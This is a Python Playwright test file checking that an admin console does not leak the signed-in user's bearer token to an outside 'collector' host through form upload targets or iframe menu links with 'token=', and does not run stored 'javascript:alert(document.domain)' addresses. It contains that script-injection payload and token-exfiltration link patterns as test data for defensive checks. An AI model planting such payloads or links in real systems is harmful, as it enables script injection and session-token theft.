"""The signed-in user's token never reaches another site, and no stored address runs script: a form whose
upload control names another site gets the file but not the token (the console's own upload does get
it), a file listed at a `javascript:` address does not run, an iframe menu asking for `token=` gets it
only on the console's own origin, and a `javascript:` iframe link shows nothing.

Designs and menus are set up through the API, as their authors would; the `javascript:` addresses are
written into the database directly, as rows stored before the server refused them."""

from __future__ import annotations

import json
import sqlite3
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from harness import Server
from playwright.sync_api import Page, Route, expect
from steps import access_token, login, open_menu

COLLECTOR = "https://collector.example.net"  # another site, as an attacker would run one
CORS = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Headers": "*",
    "Access-Control-Allow-Methods": "*",
}
SCRIPT = "javascript:alert(document.domain)"


def _api(server: Server, path: str, body: Any = None) -> Any:
    """A call signed in as superAdmin (a setup step); its `data`."""

    def call(path: str, body: Any, token: str = "") -> Any:
        headers = {"Content-Type": "application/json"}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        data = json.dumps(body).encode() if body is not None else None
        req = urllib.request.Request(server.base_url + path, data=data, headers=headers)
        with urllib.request.urlopen(req) as resp:
            answer = json.load(resp)
        assert answer["success"], answer
        return answer["data"]

    return call(path, body, call("/api/login", {"account": "superAdmin", "password": "123456"}))


def _stored_before_the_check(server: Server, sql: str, *args: str) -> None:
    with sqlite3.connect(server.data_dir / "console.db") as db:
        assert db.execute(sql, args).rowcount == 1


class Collector:
    """What the other site receives: every request, with its headers."""

    def __init__(self, page: Page) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        page.route(f"{COLLECTOR}/**", self._answer)

    def _answer(self, route: Route) -> None:
        request = route.request
        self.requests.append((request.method, request.url, request.all_headers()))
        if request.method == "OPTIONS":
            route.fulfill(status=204, headers=CORS)
        elif request.method == "POST":
            body = {"code": 0, "data": {"fileId": "c1", "url": f"{COLLECTOR}/files/c1.txt"}}
            route.fulfill(json=body, headers=CORS)
        else:
            route.fulfill(body="<html><body>collected</body></html>", content_type="text/html", headers=CORS)

    def authorizations(self) -> list[str]:
        return [headers["authorization"] for _, _, headers in self.requests if "authorization" in headers]


def _upload(model: str, label: str, action: str, **options: Any) -> dict[str, Any]:
    return {
        "type": "uploadFile",
        "label": label,
        "key": f"uploadFile_{model}",
        "model": model,
        "options": {"defaultValue": "[]", "limit": 3, "action": action, "downloadWay": "ajax", **options},
    }


def test_a_form_uploads_to_another_site_without_the_token(page: Page, server: Server, tmp_path: Path) -> None:
    design = {
        "list": [
            _upload("outside", "外部附件", f"{COLLECTOR}/upload"),
            _upload("inside", "本站附件", ""),
            _upload("listed", "历史附件", "", downloadWay="a"),
        ],
        "config": {"layout": "horizontal", "labelCol": {"span": 4}, "wrapperCol": {"span": 18}},
    }
    _api(
        server,
        "/api/formDesign/add",
        {"name": "外协资料", "code": "outside_files", "design": json.dumps(design)},
    )
    files = json.dumps([{"type": "file", "name": "旧附件.pdf", "status": "done", "uid": "1", "url": SCRIPT}])
    design["list"][2]["options"]["defaultValue"] = files
    _stored_before_the_check(
        server, "UPDATE form_design SET design = ? WHERE code = ?", json.dumps(design), "outside_files"
    )
    alerts: list[str] = []
    page.on("dialog", lambda d: (alerts.append(d.message), d.dismiss()))
    collector = Collector(page)

    login(page, "superAdmin", "123456")
    token = access_token(page)
    open_menu(page, "表单设计", "表单设计器")
    page.get_by_test_id("form-design-list").locator("tr", has_text="外协资料").get_by_text(
        "填写", exact=True
    ).click()
    fill = page.get_by_test_id("form-fill")
    attachment = tmp_path / "整改报告.txt"
    attachment.write_text("整改完毕", encoding="utf-8")

    # the console's own upload address gets the token: the file service needs it
    inside = fill.locator(".kfd-item", has_text="本站附件")
    with page.expect_request("**/api/sysFileInfo/upload") as upload:
        inside.locator("input[type=file]").set_input_files(attachment)
    assert upload.value.all_headers().get("authorization") == f"Bearer {token}"
    expect(inside.locator(".ant-upload-list-item-done")).to_have_count(1)

    # the other site gets the file without it, and then the download request without it
    outside = fill.locator(".kfd-item", has_text="外部附件")
    outside.locator("input[type=file]").set_input_files(attachment)
    expect(outside.locator(".ant-upload-list-item-done")).to_have_count(1)
    assert collector.authorizations() == []
    download = f"{COLLECTOR}/files/c1.txt"
    with page.expect_request(lambda r: r.url == download and r.method == "GET") as fetched:
        outside.get_by_role("link", name="整改报告.txt").click()
    # answered, so the other site's handler has recorded the request before it is read
    assert fetched.value.response() is not None
    assert [m for m, _, _ in collector.requests if m != "OPTIONS"] == ["POST", "GET"]
    assert collector.authorizations() == []

    # a file listed at a script address is shown by name, and opening it runs nothing
    listed = fill.locator(".kfd-item", has_text="历史附件")
    listed.get_by_text("旧附件.pdf").click()
    expect(page.get_by_text("文件下载失败")).to_be_visible()
    assert alerts == []


@pytest.fixture
def iframe_menus(server: Server) -> Iterator[dict[str, str]]:
    """Three 内链 menus at the top of the system application; deleted afterwards (other flows read the
    super administrator's menu)."""
    links = {
        "外协报表": f"{COLLECTOR}/report?token=",
        "本站报表": "/api/health?token=",
        "脚本报表": "https://placeholder.example.net/",
    }
    ids = []
    for i, (title, link) in enumerate(links.items()):
        code = f"token_home_{i}"
        menu = {
            "pid": "0",
            "name": title,
            "code": code,
            "type": 1,
            "router": f"/{code}",
            "component": "Iframe",
            "application": "system",
            "openType": 2,
            "visible": "Y",
            "link": link,
            "weight": 1,
            "sort": 900 + i,
        }
        _api(server, "/api/sysMenu/add", menu)
        rows = _api(server, "/api/sysMenu/list?application=system")
        ids.append(next(r["id"] for r in rows if r["code"] == code))
    _stored_before_the_check(server, "UPDATE sys_menu SET link = ? WHERE code = ?", SCRIPT, "token_home_2")
    try:
        yield links
    finally:
        _api(server, "/api/sysMenu/delete", [{"id": i} for i in ids])


def test_an_iframe_menu_hands_the_token_to_our_own_site_only(
    page: Page, iframe_menus: dict[str, str]
) -> None:
    alerts: list[str] = []
    page.on("dialog", lambda d: (alerts.append(d.message), d.dismiss()))
    collector = Collector(page)
    login(page, "superAdmin", "123456")
    token = access_token(page)
    frame = page.locator("iframe >> visible=true")  # tabs keep earlier pages mounted, hidden

    with page.expect_request(f"{COLLECTOR}/report**") as framed:
        open_menu(page, "外协报表")
    assert framed.value.response() is not None
    expect(frame).to_have_attribute("src", iframe_menus["外协报表"])
    assert [url for _, url, _ in collector.requests] == [iframe_menus["外协报表"]]
    assert collector.authorizations() == []

    open_menu(page, "本站报表")
    expect(frame).to_have_attribute("src", f"/api/health?token={token}")

    open_menu(page, "脚本报表")
    expect(page.get_by_text("404", exact=True)).to_be_visible()
    expect(frame).to_have_count(0)
    assert alerts == []
